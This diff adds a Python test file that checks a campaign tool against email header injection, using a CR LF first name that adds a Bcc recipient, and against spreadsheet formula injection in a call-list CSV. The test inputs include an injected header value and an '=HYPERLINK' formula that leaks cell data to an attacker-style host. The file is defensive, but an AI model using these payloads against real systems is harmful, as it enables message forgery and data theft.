@@ -1,0 +1,79 @@
+"""Attacks through what a campaign puts in a message: a person's values reach headers and texts,
+and must not make the message say or go anywhere else. On a real SMTP server, on both stores."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import httpx
+from api_helpers import server_key, serving
+from campaign_world import add_people, document, email_of
+from smtp_sink import Sink, start
+from test_campaign_send import _free_port
+
+from surmesure.deliver.calls import CallChannel, CallSettings
+from surmesure.deliver.channel import Message
+from surmesure.store import Store
+
+INJECTED = "Ana\r\nBcc: eve@example.org\r\nX-Evil: 1\n\nforged body"
+
+
+def test_a_first_name_cannot_add_a_header_or_a_recipient(store: Store, tmp_path: Path) -> None:
+    """A first name carrying CR LF and header lines (from a form, a CRM file or the public
+    write key's ``identify``) is written into the subject as spaces: the message goes to the
+    person's address only, with no header the template did not write."""
+    add_people(store, tmp_path, 2, extra={1: {"first_name": INJECTED}})
+    admin = (server_key(store, "admin"), "")
+    sink, port = Sink(), _free_port()
+    controller = start(port, sink)
+    body = document(channels={"email": document()["channels"]["email"]}, policy=None)
+    try:
+        smtp = f"smtp://127.0.0.1:{port}?sender=news@example.com"
+        with serving(store, email_url=smtp, outbox_dir=tmp_path / "outbox") as (url, _app):
+            assert httpx.put(f"{url}/v1/campaigns", json=body, auth=admin).status_code == 200
+            sent = httpx.post(f"{url}/v1/campaigns/spring/send", auth=admin, timeout=60)
+            assert sent.status_code == 200, sent.text
+    finally:
+        controller.stop()
+    assert sorted(rcpt for _, rcpts, _ in sink.received for rcpt in rcpts) == [
+        email_of(1),
+        email_of(2),
+    ]
+    mails = {str(m["To"]): m for m in sink.messages()}
+    ana = mails[email_of(1)]
+    assert ana["Bcc"] is None and ana["X-Evil"] is None
+    subject = str(ana["Subject"])
+    assert "\r" not in subject and "\n" not in subject
+    assert subject.startswith("Hello Ana") and "eve@example.org" in subject  # as text
+    names = [name.lower() for name in ana]
+    assert names == [name.lower() for name in mails[email_of(2)]]  # the same headers
+
+
+def test_a_call_script_cannot_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """Once succeeded: a script beginning with a person's value (``=HYPERLINK(...)`` as a first
+    name) was written as is to the call list, which the centre opens in a spreadsheet that
+    runs it as a formula. Such a cell is now written after an apostrophe; the phone number,
+    which begins with ``+``, is left as it is (checked as a number already)."""
+    scripts = [
+        '=HYPERLINK("http://evil.example/?leak="&A2,"Ana")',
+        "+33 1 23 45 67 89",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "Bonjour =1",
+    ]
+    messages = [
+        Message(f"c{n}", "phone", "+33612345678", text, person_id=n)
+        for n, text in enumerate(scripts, start=1)
+    ]
+    channel = CallChannel(CallSettings(folder=tmp_path))
+    results = channel.send(messages)
+    channel.close()
+    assert [r.outcome for r in results] == ["sent"] * len(scripts)
+    assert channel.last_batch is not None
+    with channel.last_batch.open(newline="", encoding="utf-8") as data:
+        rows = {row["message_id"]: row for row in csv.DictReader(data)}
+    written = [rows[f"c{n}"]["script"] for n in range(1, len(scripts) + 1)]
+    assert written == ["'" + s for s in scripts[:5]] + [scripts[5]]
+    assert {row["phone"] for row in rows.values()} == {"+33612345678"}
